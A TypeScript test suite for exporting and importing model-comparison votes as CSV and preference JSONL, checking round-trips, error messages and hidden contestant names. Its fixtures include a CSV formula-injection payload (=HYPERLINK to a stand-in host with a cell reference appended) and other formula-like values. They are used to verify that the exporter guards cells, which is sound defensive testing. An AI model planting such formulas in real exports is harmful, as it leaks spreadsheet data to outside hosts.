import { expect, test } from 'vitest';
import type { FileVote } from '../../../main/contract/vote-file.ts';
import { AppError } from '../../../main/contract/errors.ts';
import { guardCell, unguardCell } from '../../../main/core/votes/files/guard-cell.ts';
import { voteColumns } from '../../../main/core/votes/files/vote-columns.ts';
import { createCsvText } from '../../../main/exchange/csv-text.ts';
import { openVotes } from '../../support/votes/open-votes.ts';

const nasty = '=HYPERLINK("http://x/"&A1)\r\nsecond "line", with; commas\tand\rreturns\n\n';
type Here = ReturnType<typeof openVotes>;

/** Votes of every outcome, with texts that a table is bad at. */
function voted(): Here {
  const here = openVotes();
  const shared = { marks: {}, note: '' };
  const a = here.round({
    id: 'a',
    prompt: nasty,
    answers: [{ text: '@SUM(1)' }, { text: "'quoted'" }, { text: nasty }],
  });
  here.votes.cast({ roundId: a.roundId, outcome: 'best', bestId: a.ids[1] ?? null, ...shared });
  here.clear();
  const b = here.round({
    id: 'b',
    prompt: 'Two',
    answers: [{ text: 'x' }, { text: 'y' }],
    tags: ['Coding, "C"', '-1'],
  });
  here.votes.cast({
    ...{ roundId: b.roundId, outcome: 'tie', bestId: null, note: '+1 for both' },
    marks: { [b.ids[0] ?? '']: { '=truth': 4 } },
  });
  here.clear();
  const c = here.round({
    id: 'c',
    prompt: '木\u2028🙂',
    answers: [{ text: ' ' }, { text: '- a\n- b' }],
    isBlind: false,
  });
  here.votes.cast({ roundId: c.roundId, outcome: 'all-bad', bestId: null, ...shared });
  return here;
}

/** Everything of the votes that is to come back, by id. */
function kept(here: Here) {
  return here.storage.votes
    .list()
    .map(({ roundId: _round, origin: _origin, entries, ...vote }) => ({
      ...vote,
      entries: entries.map(({ answerId: _answer, ...entry }) => entry),
    }))
    .toSorted((one, other) => (one.id < other.id ? -1 : 1));
}

async function failureOf(action: Promise<unknown>) {
  const error: unknown = await action.catch((caught: unknown) => caught);
  if (!(error instanceof AppError)) throw new Error('it did not fail', { cause: error });
  return { code: error.code, ...error.params };
}

test('the table comes back byte for byte on another computer, and a second time adds nothing', async () => {
  const here = voted();
  const { text } = await here.written('csv');
  const there = openVotes(['Elm', 'Fir']);
  expect(await there.brought(text)).toEqual({ fileName: 'votes.csv', added: 3, known: 0, incomplete: 0 });
  expect(kept(there)).toEqual(kept(here));
  expect(await there.brought(text)).toMatchObject({ added: 0, known: 3 });
  expect((await there.written('csv')).text).toBe(text);
  expect(there.storage.compare.allContestants().map(({ modelName }) => modelName)).toEqual(
    expect.arrayContaining(['Ash', 'Birch', 'Cedar']),
  );
});

test('no cell begins like a formula, whatever a person or a model wrote', async () => {
  const { text } = await voted().written('csv');
  const cells = createCsvText()
    .parse(text)
    .flatMap(({ fields }) => fields);
  expect(cells.filter((cell) => /^\s*[=+\-@\t\r]/.test(cell))).toEqual([]);
  expect(cells.filter((cell) => cell.startsWith("'")).length).toBeGreaterThan(6);
});

test.each(['=1', "'=1", "''", "'", "it's", "'tis", ' =1', '\t', '\r', '\n', '＝1', '-', '', 'plain', "'plain", '\0'])(
  'the mark of %j comes off exactly',
  (text) => {
    expect(unguardCell(guardCell(text))).toBe(text);
  },
);

test('words that somebody wrote into a table with an apostrophe before them keep it', () => {
  expect(["'tis", "'", "'1'"].map(unguardCell)).toEqual(["'tis", "'", "'1'"]);
});

test('a table that a spreadsheet saved comes back too: semicolons, line feeds, large TRUE, other order of columns', async () => {
  const here = voted();
  const csv = createCsvText();
  const [head, ...rows] = csv.parse((await here.written('csv')).text).map(({ fields }) => fields.toReversed());
  const isFlag = (column: number): boolean => ['blind', 'best'].includes(head?.[column] ?? '');
  const saved = rows.map((row) => row.map((cell, column) => (isFlag(column) ? cell.toUpperCase() : cell)));
  const quoted = [head ?? [], ...saved].map((row) => row.map((cell) => `"${cell.replaceAll('"', '""')}"`).join(';'));
  const there = openVotes();
  await there.brought(quoted.join('\n'));
  expect(kept(there)).toEqual(kept(here));
});

test('a wrong table is refused with its line, and nothing of it is taken', async () => {
  const here = openVotes();
  const a = here.round({ id: 'a', prompt: 'One\nmore', answers: [{ text: 'x\ny' }, { text: 'z' }] });
  const marks = {};
  here.votes.cast({ roundId: a.roundId, outcome: 'best', bestId: a.ids[0] ?? null, marks, note: '' });
  here.clear();
  const b = here.round({ id: 'b', prompt: 'Two', answers: [{ text: 'x' }, { text: 'z' }] });
  here.votes.cast({ roundId: b.roundId, outcome: 'tie', bestId: null, marks, note: '' });
  const csv = createCsvText();
  const table = csv.parse((await here.written('csv')).text).map(({ fields }) => fields);
  const there = openVotes();
  const with_ = (row: number, column: (typeof voteColumns)[number], cell: string): string =>
    csv.format(table.map((cells, at) => cells.map((old, n) => (at === row && voteColumns[n] === column ? cell : old))));
  const told = async (text: string) => failureOf(there.brought(text));
  // The first vote's rows take lines 2–5: a text of two lines, and a prompt of two.
  expect(await told(with_(3, 'best', 'perhaps'))).toMatchObject({
    code: 'votes-malformed',
    name: 'votes.csv',
    line: 7,
  });
  expect(await told(with_(4, 'words', '-1'))).toMatchObject({ line: 8, detail: '"words" is no count' });
  expect(await told(with_(3, 'marks', '{"a":9}'))).toMatchObject({ code: 'votes-malformed', line: 7 });
  expect(await told(with_(3, 'note', 'other'))).toMatchObject({ detail: '"note" differs within the vote' });
  expect(await told(with_(3, 'best', 'true'))).toMatchObject({ code: 'votes-malformed', line: 7 });
  expect(await told(csv.format(table.slice(0, -1)))).toMatchObject({ line: 7, detail: '1 of 2 answers are there' });
  expect(await told(csv.format([...table, ['x']]))).toMatchObject({
    line: 9,
    detail: `1 fields where the head has ${voteColumns.length}`,
  });
  expect(await told('name,best\nx,true\n')).toEqual({ code: 'votes-foreign', name: 'votes.csv' });
  expect(there.lines()).toEqual([]);
});

test('pairs are those of the preference format, and the votes behind them come back whatever the order of lines', async () => {
  const here = voted();
  const { text, exported } = await here.written('dpo-jsonl');
  expect(exported).toMatchObject({ votes: 1, lines: 2, leftOut: [{ reason: 'no-preference', count: 2 }] });
  const lines = text.trimEnd().split('\n');
  const pairs = lines.map((line) => JSON.parse(line) as Record<string, unknown>);
  const prompt = [{ role: 'user', content: nasty }];
  expect(pairs.map(({ prompt: asked, chosen, rejected }) => ({ prompt: asked, chosen, rejected }))).toEqual([
    { prompt, chosen: said("'quoted'"), rejected: said(nasty) },
    { prompt, chosen: said("'quoted'"), rejected: said('@SUM(1)') },
  ]);
  const there = openVotes();
  expect(await there.brought(lines.toReversed().join('\n'), 'pairs.jsonl')).toMatchObject({ added: 1, known: 0 });
  expect(kept(there)).toEqual(kept(here).filter(({ outcome }) => outcome === 'best'));
  expect(await there.brought(lines[0] ?? '', 'part.jsonl')).toMatchObject({ added: 0, known: 0, incomplete: 1 });
});

test('labels: the best is wanted, what lost or was bad is not, a tie says nothing; they come back', async () => {
  const here = voted();
  const { text, exported } = await here.written('kto-jsonl');
  const lines = text
    .trimEnd()
    .split('\n')
    .map((line) => JSON.parse(line) as { completion: unknown; label: boolean });
  expect(lines.map(({ completion, label }) => ({ completion, label }))).toEqual([
    { completion: said(nasty), label: false },
    { completion: said('@SUM(1)'), label: false },
    { completion: said("'quoted'"), label: true },
    { completion: said('- a\n- b'), label: false },
  ]);
  expect(exported.leftOut).toEqual([
    { reason: 'no-preference', count: 1 },
    { reason: 'empty', count: 1 },
  ]);
  const there = openVotes();
  expect(await there.brought(text, 'labels.jsonl')).toMatchObject({ added: 1, incomplete: 1 });
  expect(kept(there)).toEqual(kept(here).filter(({ outcome }) => outcome === 'best'));
});

test('no file tells who won as long as names are hidden', async () => {
  const here = openVotes(['Ash', 'Birch'], false);
  const { roundId, ids } = here.round({ id: 'r', prompt: 'Hello', answers: [{ text: 'a' }, { text: 'b' }] });
  here.votes.cast({ roundId, outcome: 'best', bestId: ids[0] ?? null, marks: {}, note: '' });
  for (const format of ['csv', 'dpo-jsonl', 'kto-jsonl'] as const) {
    const { text, exported } = await here.written(format);
    expect([text.includes('Ash'), exported.votes, exported.leftOut]).toEqual([
      false,
      0,
      [{ reason: 'names-hidden', count: 1 }],
    ]);
  }
  here.storage.compare.reveal(roundId, 9);
  expect((await here.written('csv')).exported).toMatchObject({ votes: 1, leftOut: [] });
});

test('answers that did not follow the same words are no pair; other system prompts are left out of it', async () => {
  const here = openVotes(['Ash', 'Birch']);
  here.round({ id: 'first', prompt: 'Hello', answers: [{ text: 'a' }, { text: 'b' }] });
  const { roundId, ids } = here.round({ id: 'next', prompt: 'More', answers: [{ text: 'c' }, { text: 'd' }] });
  const { voteId } = here.votes.cast({ roundId, outcome: 'best', bestId: ids[0] ?? null, marks: {}, note: '' });
  expect((await here.written('dpo-jsonl')).exported).toMatchObject({
    lines: 0,
    leftOut: [{ reason: 'other-history', count: 1 }],
  });
  const vote = here.storage.votes.find(voteId);
  if (vote === null) throw new Error('no vote');
  const question = { role: 'user', content: 'More' } as const;
  const entries = vote.entries.map((entry) => ({
    ...entry,
    turns: [{ role: 'system' as const, content: `You are ${entry.name}.` }, question],
  }));
  const there = openVotes(['Ash', 'Birch']);
  there.storage.votes.save([{ ...vote, roundId: null, entries }]);
  const { text } = await there.written('dpo-jsonl');
  expect((JSON.parse(text) as { prompt: unknown }).prompt).toEqual([question]);
  const back = openVotes(['Elm', 'Fir']);
  await back.brought(text, 'pairs.jsonl');
  expect(kept(back)).toEqual(kept(there));
});

test('pairs of elsewhere are refused, because they do not tell who answered; a broken line is told by its number', async () => {
  const here = openVotes();
  const foreign = JSON.stringify({ prompt: [], chosen: said('a'), rejected: said('b') });
  expect(await failureOf(here.brought(foreign, 'ultra.jsonl'))).toEqual({ code: 'votes-foreign', name: 'ultra.jsonl' });
  const { text } = await voted().written('dpo-jsonl');
  const broken = failureOf(here.brought(`${text}{"prompt": [`, 'pairs.jsonl'));
  expect(await broken).toEqual({ code: 'votes-malformed', name: 'pairs.jsonl', line: 3, detail: 'no JSON' });
  expect(here.lines()).toEqual([]);
});

test('an export keeps to a tag, letter case aside, and to blind votes', async () => {
  const here = voted();
  expect((await here.written('csv', 'CODING, "C"')).exported.votes).toBe(1);
  expect((await here.written('csv', null, true)).exported.votes).toBe(2);
  expect((await here.written('csv', 'nothing')).exported).toMatchObject({ votes: 0, lines: 0 });
});

test('votes that were undone after an export come back with it, each to its round', async () => {
  const here = voted();
  const { text } = await here.written('csv');
  const before = here.storage.votes.list();
  for (const { id } of before) here.votes.undo(id);
  expect(await here.brought(text)).toMatchObject({ added: 3, known: 0 });
  expect(here.storage.votes.list()).toEqual(before);
});

test('a contestant of a file whose id is taken here by another one stays another one', async () => {
  const here = voted();
  const { text } = await here.written('csv');
  const there = openVotes();
  await there.brought(text.replaceAll('key of Ash', 'key of another Ash'));
  const names = there.storage.compare.allContestants().map(({ key, id }) => [key, id === 'Ash']);
  expect(names).toEqual(
    expect.arrayContaining([
      ['key of Ash', true],
      ['key of another Ash', false],
    ]),
  );
});

function said(content: string): FileVote['entries'][number]['turns'] {
  return [{ role: 'assistant', content }];
}
